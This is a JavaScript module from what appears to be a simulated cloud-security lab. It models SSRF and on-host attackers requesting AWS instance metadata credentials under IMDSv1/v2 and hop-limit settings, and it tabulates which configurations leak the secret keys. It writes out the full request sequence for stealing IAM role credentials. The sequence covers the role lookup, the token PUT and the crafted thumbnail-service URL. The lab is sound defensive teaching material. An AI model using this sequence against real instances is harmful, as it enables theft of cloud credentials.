// @ts-check
// The lab's attackers, and what all of them try: the same requests in the same order. What each may say is decided by what lies
// between them and the service, and what they get by the engine; nothing here knows an outcome.

import { latin1, readAnswer } from '../engine.js';
import { GET as PLAIN, HOST, PUT as TOKEN } from '../store.js';
import { withLine } from '../compose.js';
import { travel } from '../path/travel.js';

/** @typedef {import('../path/travel.js').Travel} Travel */
/** `asks` is in which form the attacker's request is: a URL for the thumbnail service, or the request itself. @typedef {{ id: string, stages: { kind: string }[], asks: 'url' | 'request', method: boolean, fields: boolean }} Attacker */
/** @typedef {{ what: 'role' | 'keys' | 'token' | 'session', request: string, travel: Travel, entry?: import('../world.js').Entry }} Try one request of an attack */
/** @typedef {{ tries: Try[], leaked: Try | null, keys: string }} Outcome `keys` is the document, where it reached the attacker */

const at = (/** @type {string} */ kind) => [{ kind }];
/** @type {Attacker[]} */
export const ATTACKERS = [
  { id: 'get', stages: at('fetch-get'), asks: 'url', method: false, fields: false },
  { id: 'method', stages: at('fetch-method'), asks: 'url', method: true, fields: false },
  { id: 'any', stages: at('fetch-any'), asks: 'url', method: true, fields: true },
  { id: 'proxy', stages: at('waf'), asks: 'request', method: true, fields: true },
  { id: 'container', stages: at('bridge'), asks: 'request', method: true, fields: true },
  { id: 'host', stages: [], asks: 'request', method: true, fields: true },
];
/** The four whom the lab is about; the rest run programs on the instance. */
export const OUTSIDE = 4;

export const CREDENTIALS = '/latest/meta-data/iam/security-credentials/';
/** What an attacker takes the role's name to be who could not read it. */
const GUESS = 'cli_role';
/** @typedef {{ method: string, path: string, fields: string[] }} Wish what the attacker wants to be asked */

/** The bytes that the attacker sends for it. @param {Attacker} attacker @param {Wish} wish */
export function requestOf({ asks }, { method, path, fields }) {
  if (asks === 'request') {
    return withLine(PLAIN, { method, path }).replace(/\r\n$/, () => `${fields.map((it) => `${it}\r\n`).join('')}\r\n`);
  }
  const query = new URLSearchParams({ url: `http://${HOST}${path}` });
  if (method !== 'GET') query.set('method', method);
  for (const it of fields) query.append('field', it);
  // `:` and `/` may stand in a query as they are, and are easier to read so.
  const readable = `${query}`.replace(/%3A/g, ':').replace(/%2F/g, '/');
  return `GET /thumbnail?${readable} HTTP/1.1\r\nHost: thumbs.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: image/*\r\n\r\n`;
}

/** What reached the attacker: a body, where the service served one. @param {Travel} made */
const read = ({ seen, exchange }) => (seen === 'answer' && exchange?.status === 200 ? latin1(readAnswer(exchange)?.body ?? new Uint8Array()) : '');

/**
 * First as version 1 has it, then as version 2. It ends with the keys, or when nothing is left to try.
 * @param {Attacker} attacker
 * @param {(request: string) => { travel: Travel, entry?: import('../world.js').Entry }} ask
 * @returns {Outcome}
 */
export function attack(attacker, ask) {
  /** @type {Try[]} */ const tries = [];
  const attempt = (/** @type {Try['what']} */ what, /** @type {Wish} */ wish) => {
    const request = requestOf(attacker, wish);
    tries.push({ what, request, ...ask(request) });
    return read(tries[tries.length - 1].travel);
  };
  const get = (/** @type {string} */ path, /** @type {string[]} */ fields = []) => ({ method: 'GET', path, fields });
  const ended = (/** @type {string} */ keys) => ({ tries, keys: isKeys(keys) ? keys : '', leaked: isKeys(keys) ? tries[tries.length - 1] : null });
  const role = attempt('role', get(CREDENTIALS)).split('\n')[0] || GUESS;
  const keys = attempt('keys', get(CREDENTIALS + role));
  if (isKeys(keys)) return ended(keys);
  const [, ttl] = /^(X-aws-ec2-metadata-token-ttl-seconds: \d+)\r$/m.exec(TOKEN) ?? ['', ''];
  const token = attempt('token', { method: 'PUT', path: '/latest/api/token', fields: [ttl] });
  return ended(token && attempt('session', get(CREDENTIALS + role, [`X-aws-ec2-metadata-token: ${token}`])));
}
const isKeys = (/** @type {string} */ text) => text.includes('"SecretAccessKey"');

/** Whose outcome the table shows, and under which options. */
export const CONFIGURATIONS = ['optional', 'required'].flatMap((http_tokens) => [1, 2].map((http_put_response_hop_limit) => ({ http_tokens, http_put_response_hop_limit })));

/**
 * Every attacker against every configuration, asked of clones of the world as it is.
 * @param {import('../world.js').World} world @param {string} instance
 * @returns {{ configuration: typeof CONFIGURATIONS[number], outcomes: Record<string, Outcome>, requests: number }[]}
 */
export function outcomes(world, instance) {
  return CONFIGURATIONS.map((configuration) => {
    const imds = world.clone();
    try {
      imds.modify(/** @type {any} */ ({ ...configuration, http_endpoint: 'enabled' }), { instance });
      /** @type {Record<string, Outcome>} */ const outcomes = {};
      const ask = (/** @type {Attacker} */ { stages }) => (/** @type {string} */ request) => ({ travel: travel(imds, new TextEncoder().encode(request), { now: world.now(), stages, instance }) });
      for (const attacker of ATTACKERS) outcomes[attacker.id] = attack(attacker, ask(attacker));
      return { configuration, outcomes, requests: Object.values(outcomes).reduce((sum, { tries }) => sum + tries.length, 0) };
    } finally {
      imds.free();
    }
  });
}
